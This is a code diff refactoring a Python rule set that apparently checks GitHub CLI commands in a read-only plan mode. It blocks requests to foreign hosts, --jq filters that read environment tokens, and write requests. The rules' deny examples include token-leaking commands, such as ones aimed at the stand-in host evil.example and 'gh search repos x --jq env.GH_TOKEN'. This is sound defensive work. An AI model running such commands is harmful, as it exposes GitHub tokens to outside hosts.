@@ -15,6 +15,9 @@ from __future__ import annotations
 import re
 from urllib.parse import urlsplit
 
+from ..codes import Code, Effect
+from . import rule
+
 _FIELDS = frozenset({"-f", "-F"})
 _METHOD_OVERRIDE = re.compile(r"\s*x-(http-)?method(-override)?\s*:", re.IGNORECASE)
 _JQ_ENVIRONMENT = re.compile(r"\$ENV\b|\$__prog_env\b|\benv\b")
@@ -26,14 +29,10 @@ _GITHUB_HOSTS = frozenset({"github.com", "www.github.com", "api.github.com"})
 _REPO_NAME = re.compile(r"(?:github\.com/)?[^/:@\s]+/[^/:@\s]+", re.IGNORECASE)
 
 
-def _entries(inv, name: str) -> list:
-    return [entry for entry in inv.flags if name in entry[0].names]
-
-
 def _deny_host(ctx, word, text: str) -> None:
-    ctx.deny("BP403", word.span,
+    ctx.deny(Code.BP403, word.span,
              f"`{text}` sends the request to a host other than github.com, with GH_ENTERPRISE_TOKEN "
-             "attached when it is set", "query github.com; other hosts need leaving plan mode", "network")
+             "attached when it is set", "query github.com; other hosts need leaving plan mode", Effect.NETWORK)
 
 
 def _foreign_url(value: str | None) -> bool:
@@ -42,19 +41,27 @@ def _foreign_url(value: str | None) -> bool:
         (urlsplit(value).hostname or "") not in _GITHUB_HOSTS
 
 
+@rule("gh_repo", codes=[Code.BP403, Code.BP407],
+      deny=["gh pr list -R evil.example/o/r", "gh pr view https://evil.example/o/r/pull/1"],
+      allow=["gh pr list -R o/r", "gh pr view 12"])
 def gh_repo(inv, ctx) -> None:
-    """--jq as gh_jq; -R must be OWNER/REPO on github.com, and a URL operand a github.com URL."""
+    """Repositories on hosts other than github.com, and --jq filters that read the environment.
+    gh sends GH_ENTERPRISE_TOKEN to any other host; -R must be OWNER/REPO and a
+    URL operand a github.com URL."""
     gh_jq(inv, ctx)
-    for _, value, word in _entries(inv, "--repo"):
-        if value is not None and not _REPO_NAME.fullmatch(value):
-            _deny_host(ctx, word, word.text)
+    for use in inv.uses("--repo"):
+        if use.value is not None and not _REPO_NAME.fullmatch(use.value):
+            _deny_host(ctx, use.word, use.word.text)
     for word in inv.positionals:
         if _foreign_url(word.value):
             _deny_host(ctx, word, word.text)
 
 
+@rule("gh_repo_view", codes=[Code.BP403],
+      deny=["gh repo view evil.example/o/r"], allow=["gh repo view o/r"])
 def gh_repo_view(inv, ctx) -> None:
-    """`gh repo view [HOST/]OWNER/REPO`: the host must be github.com."""
+    """`gh repo view HOST/OWNER/REPO` with a host other than github.com.
+    The host gets the request, with GH_ENTERPRISE_TOKEN attached when set."""
     gh_repo(inv, ctx)
     for word in inv.positionals:
         if word.value is not None and word.value.count("/") > 1 and "://" not in word.value \
@@ -62,52 +69,64 @@ def gh_repo_view(inv, ctx) -> None:
             _deny_host(ctx, word, word.text)
 
 
+@rule("gh_jq", codes=[Code.BP407],
+      deny=["gh search repos x --jq env.GH_TOKEN"], allow=["gh search repos x --json name --jq '.[].name'"])
 def gh_jq(inv, ctx) -> None:
-    """gh's jq has the environment loaded: `env.GH_TOKEN` prints a secret."""
-    for _, value, word in _entries(inv, "--jq"):
-        if value is not None and _JQ_ENVIRONMENT.search(value):
-            ctx.deny("BP407", word.span,
+    """--jq filters that read environment variables.
+    gh evaluates --jq with the process environment loaded: `env.GH_TOKEN` prints a secret."""
+    for use in inv.uses("--jq"):
+        if use.value is not None and _JQ_ENVIRONMENT.search(use.value):
+            ctx.deny(Code.BP407, use.word.span,
                      "the jq filter reads environment variables (`env`, `$ENV`), which can hold tokens",
-                     "drop `env`/`$ENV` from the filter", "leak")
+                     "drop `env`/`$ENV` from the filter", Effect.LEAK)
 
 
+@rule("gh_api", codes=[Code.BP400, Code.BP403, Code.BP407],
+      deny=["gh api -X POST repos/o/r/issues", "gh api repos/o/r/issues -f title=x",
+            "gh api graphql -f query='mutation { x }'"],
+      allow=["gh api repos/o/r/pulls", "gh api graphql -f query='query { viewer { login } }'"])
 def gh_api(inv, ctx) -> None:
-    """Allow GET requests and GraphQL queries; deny anything that could write."""
+    """`gh api` requests that could write: methods other than GET, fields, GraphQL mutations.
+    `gh api` sends GET unless -X says otherwise or fields are given (-f/-F make
+    it POST); a GraphQL request is always POST, so the document decides."""
     gh_jq(inv, ctx)
-    for _, value, word in _entries(inv, "--hostname"):
-        if value is not None and value.lower() != "github.com":
-            _deny_host(ctx, word, word.text)
+    for use in inv.uses("--hostname"):
+        if use.value is not None and use.value.lower() != "github.com":
+            _deny_host(ctx, use.word, use.word.text)
     for word in inv.positionals[:1]:
         if _foreign_url(word.value):
             _deny_host(ctx, word, word.text)
-    for _, value, word in _entries(inv, "-H"):
-        if _METHOD_OVERRIDE.match(value):
-            ctx.deny("BP400", word.span, f"the header `{value}` asks the server for another HTTP method",
-                     "drop the header", "network")
-    fields = [entry for entry in inv.flags if _FIELDS & set(entry[0].names)]
-    for flag, value, word in fields:
-        if "-F" in flag.names and "=@" in value:
-            ctx.deny("BP400", word.span,
+    for use in inv.uses("-H"):
+        if _METHOD_OVERRIDE.match(use.value or ""):
+            ctx.deny(Code.BP400, use.word.span,
+                     f"the header `{use.value}` asks the server for another HTTP method",
+                     "drop the header", Effect.NETWORK)
+    fields = inv.uses(*_FIELDS)
+    for use in fields:
+        if "-F" in use.flag.names and "=@" in (use.value or ""):
+            value = use.value
+            ctx.deny(Code.BP400, use.word.span,
                      f"`gh api -F {value}` sends the contents of a local file, which the checker "
                      "cannot see",
-                     "write the value literally with -f key=value", "leak")
-    methods = _entries(inv, "-X")
-    method = methods[-1][1].upper() if methods else None
+                     "write the value literally with -f key=value", Effect.LEAK)
+    methods = inv.uses("-X")
+    method = (methods[-1].value or "").upper() if methods else None
     endpoint = inv.positionals[0].value if inv.positionals else None
     if endpoint and _is_graphql(endpoint):
         if method not in (None, "GET", "POST"):
-            ctx.deny("BP403", methods[-1][2].span, f"`gh api -X {methods[-1][1]}` is not a GraphQL request method",
-                     "drop -X; GraphQL queries are sent with POST", "network")
+            ctx.deny(Code.BP403, methods[-1].word.span,
+                     f"`gh api -X {methods[-1].value}` is not a GraphQL request method",
+                     "drop -X; GraphQL queries are sent with POST", Effect.NETWORK)
         _check_graphql(fields, ctx)
         return
     if method is not None and method != "GET":
-        ctx.deny("BP403", methods[-1][2].span,
-                 f"`gh api -X {methods[-1][1]}` sends a {method} request, which can change things on GitHub",
-                 "use -X GET (the default); changing things needs leaving plan mode", "network")
+        ctx.deny(Code.BP403, methods[-1].word.span,
+                 f"`gh api -X {methods[-1].value}` sends a {method} request, which can change things on GitHub",
+                 "use -X GET (the default); changing things needs leaving plan mode", Effect.NETWORK)
     elif method is None and fields:
-        ctx.deny("BP403", fields[0][2].span,
+        ctx.deny(Code.BP403, fields[0].word.span,
                  "fields (-f/-F) make `gh api` send a POST request, which can create or change things",
-                 "add `-X GET` to send the fields as query parameters", "network")
+                 "add `-X GET` to send the fields as query parameters", Effect.NETWORK)
 
 
 def _is_graphql(endpoint: str) -> bool:
@@ -119,20 +138,21 @@ def _is_graphql(endpoint: str) -> bool:
 
 
 def _check_graphql(fields, ctx) -> None:
-    for _, value, word in fields:
+    for use in fields:
+        value, word = use.value, use.word
         key, _, document = value.partition("=")
         if key != "query" or document.startswith("@"):
             continue  # variables; a query read from a file was denied above
         operations = graphql_operations(document)
         if operations is None:
-            ctx.deny("BP407", word.span, "the GraphQL document does not parse, so its operations are unknown",
+            ctx.deny(Code.BP407, word.span, "the GraphQL document does not parse, so its operations are unknown",
                      "fix the document's brackets and quotes")
             continue
         writing = [op for op in operations if op not in _READ_OPERATIONS]
         if writing:
-            ctx.deny("BP407", word.span,
+            ctx.deny(Code.BP407, word.span,
                      f"the GraphQL document holds a `{writing[0]}` operation, and only queries are read-only",
-                     "send a `query { … }` document; mutations need leaving plan mode", "network")
+                     "send a `query { … }` document; mutations need leaving plan mode", Effect.NETWORK)
 
 
 _TOKEN = re.compile(
